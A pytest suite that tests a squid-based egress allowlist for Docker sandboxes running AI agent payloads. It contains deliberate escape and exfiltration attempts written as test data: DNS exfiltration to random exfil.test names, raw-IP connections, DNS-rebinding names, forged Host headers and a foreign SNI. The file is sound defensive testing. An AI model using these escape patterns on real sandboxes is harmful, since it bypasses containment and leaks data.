"""Per-run egress control, against the real Docker engine and real servers.

The sandbox's way out is a squid egress container on a network private to the run. These
tests try every way around it from inside a sandbox and check that each fails, is recorded,
and that nothing reached the host's sink server; and that what is allowed works: the model
endpoint on the Docker host (a scripted OpenAI-compatible server), an allowlisted name over
HTTP and through CONNECT. Everything a test creates (containers, networks) is removed.

What this machine offers for "allowed" traffic: no internet, but Debian's mirror
deb.debian.org is reachable from containers on the default bridge, on port 80 and, through
the machine's intercepting proxy, on 443 (with a certificate of that proxy, which is why the
probe's TLS check does not verify the server: the tunnel is what is under test).
"""

from __future__ import annotations

import importlib.util
import json
import re
import secrets
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from orchestrator import RunSpec, Store, load_manifest, run
from orchestrator.backends.docker.egress import (
    FLUSH_HOST,
    KIND_EGRESS,
    KIND_EGRESS_NETWORK,
    Egress,
    parse_access_log,
)
from orchestrator.backends.docker.seccomp import security_options
from orchestrator.labels import LABEL_KIND, LABEL_RUN_ID
from orchestrator.policy import HOST_ALIAS, MAX_HOSTS
from tests.conftest import (
    PAYLOADS,
    REPO,
    TEST_PAYLOADS,
    cli,
    events_of,
    our_containers,
    our_networks,
    wait_for,
)
from tests.model_server import ScriptedModelServer, SinkServer, docker_bridge_address, host_address

PROBE = TEST_PAYLOADS / "egress_probe"
RESEARCH = PAYLOADS / "research_team"
ALLOWED = "deb.debian.org"  # reachable from containers on the bridge (see the docstring)


def blocked_events(result: Any) -> list[dict[str, Any]]:
    return [e for e in events_of(result) if e["type"] == "egress_blocked"]


def probe_spec(attempts: list[dict[str, Any]], **kwargs: Any) -> RunSpec:
    return RunSpec(payload=PROBE, additional_args={"attempts": json.dumps(attempts)}, **kwargs)


def outcomes(result: Any) -> list[dict[str, Any]]:
    assert result.status == "succeeded", (result.status, result.error)
    return json.loads(result.answer)


def research_outputs() -> list[str]:
    """research_team's mock trajectory, in the order one shared model is asked."""
    scripts = load_manifest(RESEARCH).mock_scripts
    manager, librarian = scripts["manager"], scripts["librarian"]
    return [manager[0], librarian[0], librarian[1], manager[1]]


def run_in_thread(spec: RunSpec) -> tuple[threading.Thread, threading.Event, dict[str, Any]]:
    box: dict[str, Any] = {}
    cancel = threading.Event()

    def target() -> None:
        box["result"] = run(spec, cancel=cancel)

    thread = threading.Thread(target=target)
    thread.start()
    return thread, cancel, box


def stderr_of(run_id: str) -> str:
    path = Store().run_dir(run_id) / "stderr.log"
    return path.read_text() if path.is_file() else ""


def listened(run_id: str) -> list[tuple[float, int]]:
    """What a `listen` probe told so far: (time, connections accepted by then)."""
    told = re.findall(r"^listened (\d+\.\d+): (\d+)$", stderr_of(run_id), re.MULTILINE)
    return [(float(at), int(count)) for at, count in told]


def container_of(docker_client, run_id: str, kind: str) -> dict[str, Any] | None:
    found = docker_client.api.containers(
        all=True, filters={"label": [f"{LABEL_RUN_ID}={run_id}", f"{LABEL_KIND}={kind}"]}
    )
    return docker_client.api.inspect_container(found[0]["Id"]) if found else None


# ---- the policy (no Docker needed) ---------------------------------------------------------


def _render(policy: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
    path = REPO / "images" / "egress" / "entrypoint.py"
    spec = importlib.util.spec_from_file_location("egress_entrypoint", path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.render(policy)


def test_squid_rules_never_resolve_an_unlisted_name() -> None:
    access, ssl, files = _render(
        {
            "hosts": ["api.example.com"],
            "wildcards": ["example.org"],
            "host_endpoints": [[HOST_ALIAS, 8080]],
            "clients": ["172.30.0.0/16"],
            "blocked_dst": ["192.0.2.2/32"],
        }
    )
    rules = [line for line in access.splitlines() if line.startswith("http_access")]
    # `blocked_dst` (a DNS lookup) only ever follows a listed-name ACL on the same rule.
    for rule in rules:
        if "blocked_dst" in rule:
            assert rule.split()[2] in ("listed_names", "listed_wild"), rule
    # Exact names, no reverse lookups; wildcards: subdomains only, not the apex. Each list
    # is a file of its own, which the ACLs read (a configuration line of any length).
    assert 'acl listed_names dstdomain -n "/tmp/listed_names"' in access
    assert 'acl listed_wild dstdom_regex -n -i "/tmp/listed_patterns"' in access
    assert files == {
        "/tmp/listed_names": "api.example.com\n",
        "/tmp/listed_patterns": "^([a-z0-9-]+\\.)+example\\.org$\n",
    }
    assert 'ssl::server_name "/tmp/listed_names"' in ssl
    assert "ssl_bump splice listed_sni" in ssl
    with pytest.raises(ValueError):
        _render({"hosts": ["bad name; http_access allow all"], "clients": ["10.0.0.0/8"]})
    with pytest.raises(ValueError):
        _render({"hosts": ["example.com"]})  # no client network: refuse to start


def test_access_log_parsing() -> None:
    log = "\n".join(
        [
            "ORCH\t1.500\t172.20.0.3\tGET\texample.com\t80\t403\tTCP_DENIED\t-\t-\tERR_ACCESS_DENIED",
            "ORCH\t2.000\t172.20.0.3\tGET\tdeb.debian.org\t80\t200\tTCP_MISS\t-\t-\t-",
            "ORCH\t3.000\t127.0.0.1\tCONNECT\tdeb.debian.org\t443\t200\tNONE_NONE\tevil.test"
            "\tterminate\t-",
            "2026/11/22 07:38:52| a cache.log line",
            f"ORCH\t4.000\t127.0.0.1\tGET\t0a1b2c3d.{FLUSH_HOST}\t80\t403\tTCP_DENIED\t-\t-"
            "\tERR_ACCESS_DENIED\t0",  # the host's own marker (Egress.flush): never an attempt
        ]
    )
    blocked = parse_access_log(log)
    assert [(b["host"], b["port"]) for b in blocked] == [
        ("example.com", 80),
        ("deb.debian.org", 443),
    ]
    assert blocked[0]["ts"] == 1.5 and blocked[1]["sni"] == "evil.test"


def test_an_attempt_is_dated_from_its_start_not_from_squids_log_line() -> None:
    """squid logs a request when it ends; a CONNECT whose DNS lookup failed after 2.5 s
    started 2.5 s before its line (the step that made it is the one running then)."""
    line = "\t".join(
        ("ORCH", "100.000", "172.20.0.3", "CONNECT", "slow.invalid", "443", "503")
        + ("NONE_NONE", "-", "-", "ERR_DNS_FAIL", "2500")
    )
    (attempt,) = parse_access_log(line)
    assert attempt["ts"] == pytest.approx(97.5) and attempt["host"] == "slow.invalid"


# ---- acceptance 1: a payload with --model openai against a scripted server on the host ------


@pytest.mark.docker
def test_openai_payload_runs_through_the_allowlist(
    agent_image: str, openai_key: str, nothing_left: None
) -> None:
    """Without the model gateway (tests/test_gateway.py), the sandbox reaches the model
    endpoint itself, through the egress proxy."""
    with ScriptedModelServer(research_outputs()) as server:
        spec = RunSpec(
            payload=RESEARCH, model="openai:scripted", api_base=server.api_base(), gateway=False
        )
        result = run(spec)
    assert result.status == "succeeded", result.error
    assert str(result.answer).strip() == load_manifest(RESEARCH).example_answer
    assert result.network == "allowlist"
    assert result.allowlist == [f"{HOST_ALIAS}:{server.port} (the Docker host)"]
    assert len(server.requests) == 4
    # Every request came through the egress proxy, under the stable name, with the key.
    for request in server.requests:
        assert request["headers"]["Host"] == f"{HOST_ALIAS}:{server.port}"
        assert request["headers"]["Authorization"] == f"Bearer {openai_key}"
        assert request["body"]["model"] == "scripted"
    record = json.loads((Path(result.record_dir) / "result.json").read_text())
    assert record["network"] == "allowlist" and record["allowlist"] == result.allowlist
    assert Store().get_run(result.run_id)["network"] == "allowlist"


@pytest.mark.docker
def test_an_http_model_under_network_none_is_refused_before_anything_starts(
    openai_key: str, docker_client, store_label: str, tmp_path: Path
) -> None:
    """It could only fail (once as infra_error after 3 s; a batch retried it), so it
    is bad input: exit 2 with the cause and the fix, whatever set `none` (here the flag and
    the environment), and no sandbox, no record, no model call."""
    before = our_containers(docker_client, store_label)
    runs_before = len(Store().list_runs())
    with ScriptedModelServer(research_outputs()) as server:
        for args, env in (
            (["--network", "none"], {}),
            ([], {"ORCHESTRATOR_NETWORK": "none"}),
        ):
            refused = cli(
                "run",
                str(RESEARCH),
                "--model",
                "openai:scripted",
                "--api-base",
                server.api_base(),
                *args,
                env=env,
            )
            assert refused.returncode == 2, refused.stderr
            assert "needs the network" in refused.stderr and "`none`" in refused.stderr
            assert "--network allowlist" in refused.stderr, refused.stderr
    assert server.requests == []
    assert our_containers(docker_client, store_label) == before
    assert len(Store().list_runs()) == runs_before


@pytest.mark.docker
def test_model_server_on_loopback_only_gets_a_clear_hint(
    agent_image: str, openai_key: str, nothing_left: None
) -> None:
    with ScriptedModelServer(research_outputs(), host="127.0.0.1") as server:
        result = run(RunSpec(payload=RESEARCH, model="openai:scripted", api_base=server.api_base()))
    assert result.status == "infra_error", (result.status, result.error)
    assert "must listen on 0.0.0.0" in result.error.message, result.error
    assert server.requests == []


# ---- acceptance 2 and 3: what an allowlisted sandbox cannot do, and what it can -------------


def _listener_ip(docker_client, run_id: str) -> str:
    info = container_of(docker_client, run_id, "sandbox")
    assert info is not None
    return info["NetworkSettings"]["Networks"][f"orchestrator-net-{run_id}"]["IPAddress"]


@pytest.mark.gvisor
@pytest.mark.docker
def test_every_way_around_the_allowlist_fails_and_is_recorded(
    agent_image: str, docker_client, openai_key: str, nothing_left: None
) -> None:
    bridge, host_ip = docker_bridge_address(), host_address()
    exfil = f"{secrets.token_hex(6)}.exfil.test"
    # Another sandbox, running at the same time, listening on its private address.
    other_id = f"r-egress-other-{secrets.token_hex(4)}"
    # It listens until the test has seen it count past the last attempt, then is cancelled.
    listen = probe_spec([{"kind": "listen", "port": 8000, "seconds": 600}], run_id=other_id)
    other_thread, other_cancel, other_box = run_in_thread(listen)
    script = load_manifest(PROBE).mock_scripts["manager"]
    try:
        wait_for(lambda: "listening on 8000" in stderr_of(other_id), timeout=120)
        other_ip = _listener_ip(docker_client, other_id)
        with SinkServer() as sink, ScriptedModelServer(script) as model:
            attempts = [
                # not on the allowlist: plain HTTP, HTTPS (urllib), a raw CONNECT
                {"kind": "http", "url": "http://example.com/"},
                {"kind": "http", "url": "https://example.com/"},
                {"kind": "connect", "host": "example.com", "port": 443},
                # raw IPs, directly and through the proxy
                {"kind": "tcp", "host": "203.0.113.80", "port": 80},
                {"kind": "http", "url": "http://203.0.113.80/"},
                # DNS: an arbitrary name, and a listed one (the sandbox resolves nothing)
                {"kind": "dns", "name": exfil},
                {"kind": "dns", "name": ALLOWED},
                # the host's sink: bridge address and host address, direct and proxied,
                # and through the host alias on a port that is not the model's
                {"kind": "tcp", "host": bridge, "port": sink.port},
                {"kind": "tcp", "host": host_ip, "port": sink.port},
                {"kind": "http", "url": f"http://{bridge}:{sink.port}/"},
                {"kind": "http", "url": f"http://{host_ip}:{sink.port}/"},
                {"kind": "http", "url": f"http://{HOST_ALIAS}:{sink.port}/"},
                {"kind": "connect", "host": HOST_ALIAS, "port": sink.port},
                # names that resolve to loopback or to the proxy itself, one of them listed
                # (DNS rebinding: `localhost` itself can no longer be listed)
                {"kind": "proxied", "url": "http://localhost/"},
                {"kind": "proxied", "url": "http://ip6-localhost/"},
                {"kind": "proxied", "url": "http://egress/"},
                # the other sandbox
                {"kind": "tcp", "host": other_ip, "port": 8000},
                {"kind": "http", "url": f"http://{other_ip}:8000/"},
                # a listed name on a port that is not 80/443
                {"kind": "connect", "host": ALLOWED, "port": 22},
                # allowed: the model endpoint, with another Host header (the proxy sends the
                # URL's host: the server never sees the forged one)
                {
                    "kind": "proxied",
                    "url": f"http://{HOST_ALIAS}:{model.port}/forged",
                    "host": "example.com",
                },
                # allowed: HTTP and CONNECT to a listed name; but not with a foreign SNI
                {"kind": "http", "url": f"http://{ALLOWED}/debian/"},
                {"kind": "connect", "host": ALLOWED, "port": 443},
                {"kind": "connect", "host": ALLOWED, "port": 443, "sni": "evil.example.com"},
            ]
            spec = probe_spec(
                attempts,
                model="openai:scripted",
                api_base=model.api_base(),
                # a listed name that resolves to the proxy's own address: still refused
                allow_hosts=("egress",),
                gateway=False,  # the sandbox reaches the model endpoint itself, via squid
            )
            result = run(spec)
            # The model endpoint itself was reachable, and only under its own name.
            assert [r["method"] for r in model.requests] == ["POST", "GET"], model.requests
            assert {r["headers"]["Host"] for r in model.requests} == {f"{HOST_ALIAS}:{model.port}"}
        ended = time.time()
        assert sink.connections == [], sink.connections
        # The listening sandbox counted no connection up to a moment after the last attempt
        # (an accept of its own between): every count it told, the last taken after that.
        wait_for(lambda: any(at > ended + 0.5 for at, _ in listened(other_id)), timeout=120)
        assert [count for _, count in listened(other_id)] == [0] * len(listened(other_id))
    finally:
        other_cancel.set()
        other_thread.join(timeout=60)
    got = outcomes(result)
    allowed = got[-3:-1]
    for outcome in got[:-4] + got[-1:]:
        assert outcome["ok"] is False, outcome
    assert got[-4]["status"] == 404  # the forged Host: reached the model server (see above)
    assert allowed[0]["ok"] and allowed[0]["status"] == 200, allowed
    assert allowed[1]["ok"] and allowed[1]["status"] == 200, allowed
    assert allowed[1]["reply"].startswith("HTTP/1.1 "), allowed
    refused_connects = [o for o in got if o["kind"] == "connect" and o.get("sni") is None][:-1]
    assert [o["status"] for o in refused_connects] == [403, 403, 403]  # plain 403s
    assert "TLS" in got[-1]["error"]  # the foreign SNI was cut off
    assert other_box["result"].status == "cancelled", other_box["result"].error
    # What squid refused is in the record, with host, port and time.
    assert result.network == "allowlist"
    assert result.allowlist == [
        ALLOWED,
        "egress",
        f"{HOST_ALIAS}:{model.port} (the Docker host)",
    ]
    proxied = {(e["host"], e["port"]) for e in blocked_events(result) if e["source"] == "egress"}
    expected = {
        ("example.com", 80),
        ("example.com", 443),
        ("203.0.113.80", 80),
        (bridge, sink.port),
        (host_ip, sink.port),
        (HOST_ALIAS, sink.port),
        ("localhost", 80),
        ("ip6-localhost", 80),
        ("egress", 80),
        (other_ip, 8000),
        (ALLOWED, 22),
    }
    assert expected <= proxied, expected - proxied
    # What never reached squid was seen in the sandbox (the runtime's audit hook).
    direct = {
        (e["kind"], e["host"], e["port"])
        for e in blocked_events(result)
        if e["source"] == "sandbox"
    }
    expected_direct = {
        ("connect", "203.0.113.80", 80),
        ("dns", exfil, 80),
        ("dns", ALLOWED, 80),
        ("connect", bridge, sink.port),
        ("connect", host_ip, sink.port),
        ("connect", other_ip, 8000),
    }
    assert expected_direct <= direct, expected_direct - direct
    # ... and never the proxy itself, or the sandbox's own loopback.
    assert not [d for d in direct if d[2] == 3128 or d[1] in ("127.0.0.1", "localhost")], direct
    sni = [e for e in blocked_events(result) if e.get("sni") == "evil.example.com"]
    assert sni and sni[0]["host"] == ALLOWED and sni[0]["port"] == 443
    assert all(isinstance(e["ts"], float) for e in blocked_events(result))
    record = json.loads((Path(result.record_dir) / "result.json").read_text())
    assert record["egress_blocked"] == result.egress_blocked == len(blocked_events(result))
    assert not [e for e in blocked_events(result) if FLUSH_HOST in str(e.get("host"))]


_DEBUG_DNS = """
import os, sys
sys.path.insert(0, "/etc/squid/orchestrator")
import entrypoint
execv = os.execv
def with_dns_debug(path, args):
    with open(entrypoint.CONF, "a") as conf:
        conf.write("debug_options ALL,1 78,3 14,4\\n")  # squid's DNS and IP cache
    execv(path, args)
os.execv = with_dns_debug
entrypoint.main()
"""


@pytest.mark.docker
def test_the_proxy_never_resolves_an_unlisted_name(
    agent_image: str, docker_client, store_label: str, nothing_left: None
) -> None:
    """squid's own DNS log: unlisted names are refused unresolved (no DNS exfiltration through
    the proxy), listed ones are resolved."""
    from orchestrator.backends.docker.egress import ensure_egress_image, start_with_policy

    api = docker_client.api
    labels = dict([store_label.split("=", 1)])
    name = f"orchestrator-test-dns-{secrets.token_hex(4)}"
    network = api.create_network(name, internal=True, options={}, labels=labels)
    subnet = api.inspect_network(network["Id"])["IPAM"]["Config"][0]["Subnet"]
    policy = {"hosts": [ALLOWED], "clients": [subnet]}
    egress = api.create_container(
        ensure_egress_image(docker_client),
        entrypoint=["python3", "-c", _DEBUG_DNS],
        stdin_open=True,
        labels=labels,
        host_config=api.create_host_config(
            network_mode="bridge",
            read_only=True,
            cap_drop=["ALL"],
            tmpfs={path: "mode=1777" for path in ("/tmp", "/var/run/squid")},
        ),
    )
    client = None
    try:
        api.connect_container_to_network(egress["Id"], network["Id"])
        start_with_policy(api, egress["Id"], policy)
        wait_for(lambda: api.logs(egress["Id"]).count(b"Accepting ") >= 2, timeout=30)
        proxy = api.inspect_container(egress["Id"])["NetworkSettings"]["Networks"][name]
        secret = secrets.token_hex(8)
        script = (
            "import socket\n"
            f"for line in [b'GET http://{secret}.exfil.test/ HTTP/1.1', "
            f"b'CONNECT {secret}.exfil.test:443 HTTP/1.1', b'GET http://{ALLOWED}/ HTTP/1.1']:\n"
            f"    s = socket.create_connection(('{proxy['IPAddress']}', 3128), timeout=10)\n"
            "    s.sendall(line + b'\\r\\nHost: x\\r\\n\\r\\n')\n"
            "    print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
        )
        client = api.create_container(
            agent_image,
            ["python", "-c", script],
            labels=labels,
            host_config=api.create_host_config(network_mode=name, dns=["127.0.0.1"]),
        )
        api.start(client["Id"])
        assert api.wait(client["Id"], timeout=60)["StatusCode"] == 0
        replies = api.logs(client["Id"], stderr=False).decode().split("\n")
        assert [r.split()[1] for r in replies if r] == ["403", "403", "200"], replies
        dns = [
            line
            for line in api.logs(egress["Id"], stdout=False).decode().splitlines()
            if "idnsALookup" in line or "ipcache_nbgethostbyname" in line
        ]
        assert [line for line in dns if ALLOWED in line], "the listed name was not resolved"
        assert not [line for line in dns if secret in line], "an unlisted name was resolved"
    finally:
        for container in (client, egress):
            if container is not None:
                api.remove_container(container["Id"], force=True)
        api.remove_network(network["Id"])


# ---- a long allowlist: handed to the proxy whole, up to its maximum ------------------------


def many_hosts(count: int, start: int = 1) -> list[str]:
    """Generated host names (`.test` is reserved: none of them resolves)."""
    return [f"h{i:04d}.example.test" for i in range(start, start + count)]


def probe_listing(folder: Path, hosts: list[str]) -> Path:
    """The probe payload copied to `folder`, with `hosts` as its `[network] hosts`."""
    shutil.copytree(PROBE, folder)
    manifest = folder / "manifest.toml"
    text = manifest.read_text()
    listed = f'hosts = ["{ALLOWED}"]'
    assert listed in text
    manifest.write_text(text.replace(listed, f"hosts = {json.dumps(hosts)}"))
    return folder


@pytest.mark.docker
def test_an_allowlist_of_5000_hosts_validates_and_runs(
    agent_image: str, tmp_path: Path, nothing_left: None
) -> None:
    """A long allowlist reaches squid whole (not in an environment variable, which the
    kernel caps at 128 KiB): the listed endpoint is reached, the last generated name is let
    through to its (failing) lookup, and unlisted names are refused unresolved."""
    hosts = [*many_hosts(5000), ALLOWED]
    payload = probe_listing(tmp_path / "probe", hosts)
    checked = cli("validate", str(payload))
    assert checked.returncode == 0, checked.stderr
    assert ": ok (" in checked.stdout, checked.stdout
    attempts = [
        {"kind": "http", "url": f"http://{ALLOWED}/debian/"},
        {"kind": "proxied", "url": "http://h5000.example.test/"},
        {"kind": "http", "url": "http://example.com/"},
        {"kind": "connect", "host": "h5001.example.test", "port": 443},
    ]
    result = run(RunSpec(payload=payload, additional_args={"attempts": json.dumps(attempts)}))
    reached, listed, unlisted, unlisted_tunnel = outcomes(result)
    assert reached["ok"] and reached["status"] == 200, reached
    # Let through, then failed upstream (its name does not resolve): squid's 502 or 503.
    assert listed["status"] in (502, 503), listed
    assert unlisted["status"] == 403 and unlisted_tunnel["status"] == 403
    assert result.network == "allowlist" and result.allowlist == hosts
    events = [e for e in events_of(result) if e["type"] in ("egress_blocked", "egress_failed")]
    verdicts = {(e["host"], e["port"]): e["verdict"] for e in events if e["source"] == "egress"}
    assert verdicts[("h5000.example.test", 80)] == "allowed", events
    assert verdicts[("example.com", 80)] == verdicts[("h5001.example.test", 443)] == "denied"


def test_an_allowlist_over_the_maximum_is_refused_by_validate_and_run(tmp_path: Path) -> None:
    """Refused before anything starts, naming the field and the maximum: in a manifest, with
    --allow-host added to a full one, and in a program's PEP 723 block."""
    limit = f"{MAX_HOSTS:,}"
    over = probe_listing(tmp_path / "over", many_hosts(MAX_HOSTS + 1))
    for command in (["validate"], ["run"]):
        out = cli(*command, str(over))
        assert out.returncode == 2, out.stderr
        assert "`network.hosts`" in out.stderr and limit in out.stderr, out.stderr
        assert "infra_error" not in out.stderr and "egress" not in out.stderr
    full = probe_listing(tmp_path / "full", many_hosts(MAX_HOSTS))
    out = cli("validate", "--no-load", str(full))
    assert out.returncode == 0, out.stderr
    out = cli("run", str(full), "--allow-host", "one-more.example.test")
    assert out.returncode == 2, out.stderr
    assert "--allow-host" in out.stderr and limit in out.stderr, out.stderr
    program = tmp_path / "listing.py"
    program.write_text(
        "# /// script\n# [tool.orchestrator.network]\n"
        f"# hosts = {json.dumps(many_hosts(MAX_HOSTS + 1))}\n# ///\nprint('never')\n"
    )
    for command in (["validate"], ["run"]):
        out = cli(*command, str(program))
        assert out.returncode == 2, out.stderr
        assert "`tool.orchestrator.network.hosts`" in out.stderr and limit in out.stderr


# ---- acceptance 4: the egress container dies mid-run ----------------------------------------


@pytest.mark.docker
def test_killing_the_egress_container_fails_closed(
    agent_image: str, docker_client, nothing_left: None
) -> None:
    run_id = f"r-egress-kill-{secrets.token_hex(4)}"
    poll = {"kind": "poll", "url": f"http://{ALLOWED}/debian/", "seconds": 60, "interval": 0.1}
    thread, cancel, box = run_in_thread(probe_spec([poll], run_id=run_id))
    try:
        wait_for(lambda: " ok" in stderr_of(run_id), timeout=120)
        egress = container_of(docker_client, run_id, KIND_EGRESS)
        sandbox = container_of(docker_client, run_id, "sandbox")
        network = docker_client.api.inspect_network(f"orchestrator-net-{run_id}")
        killed_at = time.time()
        docker_client.api.kill(egress["Id"])
        thread.join(timeout=30)
        assert not thread.is_alive(), "the run did not end after its egress proxy died"
    finally:
        cancel.set()
        thread.join(timeout=60)
    result = box["result"]
    assert result.status == "infra_error", (result.status, result.error)
    assert result.error.type == "network_lost", result.error
    assert result.timings["ended"] - killed_at < 10
    # No request sent once the proxy was gone got through (one sent just before may finish
    # after the kill on a loaded machine: the probe stamps each with its sending time).
    polls = [line.split() for line in stderr_of(run_id).splitlines() if line.startswith("poll ")]
    assert not [p for p in polls if float(p[1]) > killed_at + 0.05 and p[2] == "ok"], polls
    # While it ran, everything was as hardened as designed.
    _assert_hardened(egress, sandbox, network, run_id)


def test_the_last_look_flushes_squids_log_without_stopping_it(
    agent_image: str, docker_client, nothing_left: None
) -> None:
    """`Egress.flush` (the run's last look at the log): squid refuses and logs a marker of the
    host's own, which is then in the engine's copy of the log, left out of what the host
    reads; squid goes on running (a stop would cost about 2 s)."""
    run_id = f"r-egress-flush-{secrets.token_hex(4)}"
    poll = {"kind": "poll", "url": f"http://{ALLOWED}/debian/", "seconds": 60, "interval": 0.1}
    thread, cancel, box = run_in_thread(probe_spec([poll], run_id=run_id))
    try:
        wait_for(lambda: " ok" in stderr_of(run_id), timeout=120)
        container = container_of(docker_client, run_id, KIND_EGRESS)
        network = f"orchestrator-net-{run_id}"  # the run's own proxy, as its backend holds it
        proxy = Egress(docker_client, network, network, container_id=container["Id"])
        assert proxy.flush()
        log = docker_client.api.logs(container["Id"], stderr=False).decode()
        assert [line for line in log.splitlines() if FLUSH_HOST in line], log[-2000:]
        assert not [b for b in parse_access_log(log) if FLUSH_HOST in str(b["host"])]
        assert docker_client.api.inspect_container(container["Id"])["State"]["Running"]
    finally:
        cancel.set()
        thread.join(timeout=60)
    assert box["result"].status == "cancelled", box["result"].error


def _assert_hardened(egress: dict, sandbox: dict, network: dict, run_id: str) -> None:
    host = egress["HostConfig"]
    assert egress["Config"]["User"] == "proxy:proxy"
    assert host["CapDrop"] == ["ALL"] and not host["CapAdd"]
    assert not host["Privileged"] and host["ReadonlyRootfs"] is True
    assert host["SecurityOpt"] == security_options()  # our seccomp profile too
    assert host["Runtime"] == "runc"  # whatever runs the sandbox
    assert host["Memory"] > 0 and host["PidsLimit"] > 0 and host["NanoCpus"] > 0
    assert not host.get("Binds") and "docker.sock" not in json.dumps(egress)
    assert egress["Config"]["Labels"][LABEL_RUN_ID] == run_id
    assert egress["Config"]["Labels"][LABEL_KIND] == KIND_EGRESS
    assert set(egress["NetworkSettings"]["Networks"]) == {"bridge", f"orchestrator-net-{run_id}"}
    assert set(sandbox["NetworkSettings"]["Networks"]) == {f"orchestrator-net-{run_id}"}
    assert sandbox["HostConfig"]["Dns"] == ["127.0.0.1"]
    env = dict(item.split("=", 1) for item in sandbox["Config"]["Env"])
    assert env["HTTPS_PROXY"] == env["http_proxy"] and env["HTTPS_PROXY"].endswith(":3128")
    assert network["Internal"] is True
    assert network["Options"]["com.docker.network.bridge.inhibit_ipv4"] == "true"
    assert network["Labels"][LABEL_KIND] == KIND_EGRESS_NETWORK
    assert network["Labels"][LABEL_RUN_ID] == run_id


# ---- acceptance 5: open only when named -----------------------------------------------------


@pytest.mark.docker
def test_open_works_only_when_named_and_is_recorded(agent_image: str, nothing_left: None) -> None:
    direct = [{"kind": "tcp", "host": "203.0.113.80", "port": 80}]
    opened = run(probe_spec(direct, network="open"))
    assert outcomes(opened)[0]["ok"] is True
    assert opened.network == "open" and opened.allowlist == []
    record = json.loads((Path(opened.record_dir) / "result.json").read_text())
    assert record["network"] == "open"
    assert Store().get_run(opened.run_id)["network"] == "open"
    started = [e for e in events_of(opened) if e["type"] == "sandbox_created"]
    assert started[0]["network"] == "open"
    default = run(probe_spec(direct))
    assert outcomes(default)[0]["ok"] is False
    assert default.network == "allowlist"


@pytest.mark.docker
def test_open_reaches_a_model_server_on_the_host_too(
    agent_image: str, openai_key: str, nothing_left: None
) -> None:
    with ScriptedModelServer(research_outputs()) as server:
        spec = RunSpec(
            payload=RESEARCH, model="openai:scripted", api_base=server.api_base(), network="open"
        )
        result = run(spec)
    assert result.status == "succeeded", result.error
    assert result.network == "open"
    assert {r["headers"]["Host"] for r in server.requests} == {f"{HOST_ALIAS}:{server.port}"}


# ---- cleanup after a crash ------------------------------------------------------------------


@pytest.mark.docker
def test_cleanup_removes_a_crashed_runs_proxy_and_network(
    agent_image: str, docker_client, store_label: str, nothing_left: None
) -> None:
    poll = {"kind": "poll", "url": f"http://{ALLOWED}/debian/", "seconds": 60, "interval": 0.5}
    args = ["run", str(PROBE), "--arg", "attempts=" + json.dumps(json.dumps([poll]))]
    proc = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", *args],
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    kinds: Callable[[], set[str]] = lambda: {  # noqa: E731
        c["Labels"].get(LABEL_KIND) for c in our_containers(docker_client, store_label)
    }
    try:
        wait_for(lambda: kinds() == {"sandbox", KIND_EGRESS}, timeout=120)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
    assert our_networks(docker_client, store_label), "the orphaned network should be there"
    out = cli("cleanup")
    assert out.returncode == 0, out.stderr
    assert f"removed {KIND_EGRESS} " in out.stdout and f"removed {KIND_EGRESS_NETWORK} " in (
        out.stdout
    ), out.stdout
    assert not our_containers(docker_client, store_label)
    assert not our_networks(docker_client, store_label)


# ---- every attempt that did not succeed, with its cause and its step ---------------

#: squid's lines for (in order) a tunnel to an allowed host that cannot be reached, the SNI
#: hop's own line for it, a plain GET to that host, and two refused tunnels (captured from a
#: real run of agent_payloads/web_browser), and a tunnel that worked.
SQUID_LINES = "\n".join(
    "\t".join(fields)
    for fields in (
        (
            "ORCH",
            "1795560958.686",
            "192.168.32.3",
            "CONNECT",
            "no-such-host.invalid",
            "443",
            "500",
            "NONE_NONE",
            "-",
            "-",
            "ERR_CANNOT_FORWARD",
        ),
        (
            "ORCH",
            "1795560958.686",
            "127.0.0.1",
            "-",
            "-",
            "-",
            "0",
            "NONE_NONE",
            "-",
            "-",
            "ERR_CLIENT_GONE",
        ),
        (
            "ORCH",
            "1795560958.692",
            "192.168.32.3",
            "GET",
            "no-such-host.invalid",
            "80",
            "502",
            "TCP_MISS",
            "-",
            "-",
            "ERR_READ_ERROR",
        ),
        (
            "ORCH",
            "1795560958.693",
            "192.168.32.3",
            "GET",
            "gone.example.org",
            "80",
            "503",
            "TCP_MISS",
            "-",
            "-",
            "ERR_DNS_FAIL",
        ),
        (
            "ORCH",
            "1795560958.696",
            "192.168.32.3",
            "CONNECT",
            "deb.debian.org",
            "8443",
            "403",
            "TCP_DENIED",
            "-",
            "-",
            "ERR_ACCESS_DENIED",
        ),
        (
            "ORCH",
            "1795560958.700",
            "192.168.32.3",
            "CONNECT",
            "epoch.ai",
            "443",
            "200",
            "TCP_TUNNEL",
            "epoch.ai",
            "splice",
            "-",
        ),
    )
)


def test_the_proxy_log_gives_every_failed_attempt_its_verdict_and_cause() -> None:
    attempts = parse_access_log(SQUID_LINES)
    assert [(a["host"], a["port"], a["verdict"]) for a in attempts] == [
        ("no-such-host.invalid", 443, "allowed"),
        ("no-such-host.invalid", 80, "allowed"),
        ("gone.example.org", 80, "allowed"),
        ("deb.debian.org", 8443, "denied"),
    ]
    reasons = [a["reason"] for a in attempts]
    assert "could not reach the host upstream" in reasons[0] and "HTTP 500" in reasons[0]
    assert "failed upstream (read error)" in reasons[1]
    assert reasons[2].startswith("DNS failure upstream")
    assert reasons[3] == "not on the allowlist"
